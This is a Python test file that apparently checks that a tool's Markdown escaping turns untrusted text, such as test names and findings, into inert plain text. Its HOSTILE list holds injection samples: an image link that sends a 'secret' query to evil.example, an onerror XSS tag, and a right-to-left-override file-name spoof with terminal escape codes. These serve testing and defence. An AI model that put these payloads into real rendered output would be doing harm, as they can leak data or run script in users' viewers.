"""Words of others in Markdown, read back by a reader of Markdown: they are there as they were, and mean nothing."""

import pytest
from acp.schema import ContentToolCallContent, TextContentBlock
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token
from tercet_server.cli.acp import views
from tercet_server.cli.acp.markup import escaped, quoted
from tercet_server.cli.terminal import printable
from tercet_shared.edits import line_range
from tercet_shared.events import Event, EventType
from tercet_shared.findings import FileFindings, Finding, Severity, Source
from tercet_shared.ids import FindingId, RunId

READER = MarkdownIt("gfm-like", {"linkify": False})
HARMLESS = {"paragraph_open", "paragraph_close", "inline", "text", "text_special", "code_inline", "softbreak"}

HOSTILE = [
    "![seen](https://evil.example/pixel?q=secret)",
    "[click](https://evil.example)",
    "# A heading",
    "a\n# heading\n===\n---\n",
    "<img src=x onerror=alert(1)>",
    "<https://evil.example>",
    "```\n![x](y)\n```",
    "` unbalanced [x](y)",
    "`code` and [x](y) and ``more ` code`` ![z](w)",
    "\\[x](y) \\\\[x](y) \\`[x](y)`",
    "- item\n1. item\n> quote",
    "1. item",
    "12) item",
    "| a | b |\n|---|---|",
    "[ref]: https://evil.example\n[ref]",
    "tests/test_a.py::test_x[![a](b)]",
    "\u202egnp.exe \x1b[31m",
]

MARKDOWN = st.text(st.sampled_from("`*_[]()<>!#|~&\\-+=.:/@$1a w\n\t"), max_size=60)


def tokens(markdown: str) -> list[Token]:
    found = READER.parse(markdown)
    return [*found, *(child for each in found for child in each.children or ())]


def read_back(markdown: str) -> str:
    return "".join(each.content for each in tokens(markdown) if each.type in {"text", "text_special", "code_inline"})


def check(words: str) -> None:
    line = " ".join(printable(words).split())
    for shown in (escaped(words), quoted(words)):
        assert {each.type for each in tokens(shown)} <= HARMLESS, shown
        assert "\n" not in shown
    if not line.startswith(" "):
        assert read_back(quoted(words)) == line
    if "`" not in line:
        assert read_back(escaped(words)) == line


@pytest.mark.parametrize("words", HOSTILE)
def test_hostile_words_are_shown_as_they_are_and_mean_nothing(words: str):
    check(words)


@given(MARKDOWN | st.text(max_size=80))
def test_no_words_mean_anything(words: str):
    check(words)


def test_code_in_a_sentence_stays_code_and_plain_words_stay_plain():
    assert escaped("Run `tercet trust` there: a_b.") == "Run `tercet trust` there: a\\_b."
    assert quoted("3 tests ran, none fails.") == escaped("3 tests ran, none fails.") == "3 tests ran, none fails."
    assert quoted("tests/test_a.py") == "`tests/test_a.py`"
    assert quoted("a `b`") == "`` a `b` ``"


@pytest.mark.parametrize("words", HOSTILE)
def test_what_is_told_of_a_candidate_and_of_findings_is_a_list_of_mere_text(words: str):
    harmless = HARMLESS | {"bullet_list_open", "bullet_list_close", "list_item_open", "list_item_close"}
    data = {"title": words, "checks": {"syntax": "passed"}, "verdict": {"decision": "reject", "reasons": [words]}}
    event = Event.model_construct(run_id=RunId("r"), n=1, type=EventType.CANDIDATE_CHECKED, data=data)
    call = views.candidate(event)
    (content,) = call.content or ()
    assert isinstance(content, ContentToolCallContent)
    assert isinstance(content.content, TextContentBlock)
    finding = Finding(
        id=FindingId("f"), path="a_`b`[c](d).py", range=line_range(0), rule="r", severity=Severity.ERROR, message=words,
        source=Source.TESTS, tool="pytest", text_sha256="0" * 64,
    )  # fmt: skip
    listed = views.findings([FileFindings(path=finding.path, revision=1, findings=[finding])])
    for shown in (content.content.text, listed, call.title.removeprefix("Prove: ")):
        assert {each.type for each in tokens(shown)} <= harmless, shown
